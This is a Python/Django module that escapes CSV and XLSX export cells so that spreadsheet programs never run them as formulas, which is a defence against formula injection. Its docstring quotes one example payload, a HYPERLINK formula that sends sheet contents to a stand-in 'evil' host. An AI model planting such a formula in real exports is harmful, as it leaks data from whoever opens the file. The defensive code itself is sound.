"""Every CSV and XLSX the platform writes goes through here, so that no cell is a formula
(decision 0030).

A spreadsheet program runs a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a plan
title would leak the sheet when the Secretariat opens the export. CSV cells that start so are
written with a leading apostrophe, which spreadsheet programs read as "text"; numbers stay
numbers (``-5`` is not escaped). In XLSX every text is a string cell with the quote prefix
style, never a formula, and keeps its exact text; characters XML cannot hold are dropped.
Imports remove the apostrophe again (``common.tabular``), so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_dangerous(value: str) -> bool:
    return value.startswith(TRIGGERS) and not _NUMBER.match(value)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell that no spreadsheet program runs."""
    if value is None:
        return ""
    if isinstance(value, str) and is_dangerous(value):
        return "'" + value
    return value


def unescape(value: str) -> str:
    """What an import reads back from a cell this module escaped."""
    if value.startswith("'") and value[1:].startswith(TRIGGERS) and not _NUMBER.match(value[1:]):
        return value[1:]
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM (spreadsheet programs then read Arabic right), every cell escaped."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def csv_stream(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, chunk: int = 65536
) -> Iterator[str]:
    """Like :func:`csv_bytes` for exports too large to hold (a streaming response): text in
    pieces of about ``chunk`` characters, every cell escaped, no byte-order mark (SDMX-CSV
    has none)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        if buffer.tell() > chunk:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


@dataclass
class Sheet:
    title: str
    header: Sequence[str] | None = None
    rows: list[Sequence[Any]] = field(default_factory=list)
    rtl: bool = False
    #: Rows (1-based) to print bold, besides the header.
    bold_rows: tuple[int, ...] = ()
    big_rows: tuple[int, ...] = ()
    freeze_header: bool = True

    def append(self, values: Sequence[Any]) -> None:
        self.rows.append(list(values))


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("", value)
    return value


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook of ``sheets``; text cells are strings (quote prefix), never formulas."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(_XML_ILLEGAL.sub("", spec.title)[:31] or "Sheet")
        sheet.sheet_view.rightToLeft = spec.rtl
        rows = ([list(spec.header)] if spec.header is not None else []) + spec.rows
        for values in rows:
            sheet.append([_xlsx_value(v) for v in values])
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # never "f": the text is kept, nothing is computed
                    if cell.value.startswith(TRIGGERS):
                        cell.quotePrefix = True
        bold = set(spec.bold_rows) | ({1} if spec.header is not None else set())
        for number in bold:
            for cell in sheet[number]:
                cell.font = Font(bold=True)
        for number in spec.big_rows:
            for cell in sheet[number]:
                cell.font = Font(bold=True, size=14)
        if spec.header is not None and spec.freeze_header:
            sheet.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_stream_row(sheet: Any, values: Sequence[Any]) -> list[Any]:
    """A row for openpyxl's write-only sheets (exports too large to hold), by the same rule as
    :func:`xlsx_bytes`: text is a string cell with the quote prefix, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for raw in values:
        value = _xlsx_value(raw)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
            if value.startswith(TRIGGERS):
                cell.quotePrefix = True
        cells.append(cell)
    return cells


def download(content: bytes, filename: str, content_type: str) -> HttpResponse:
    """An export as a file to save, never displayed by the browser."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
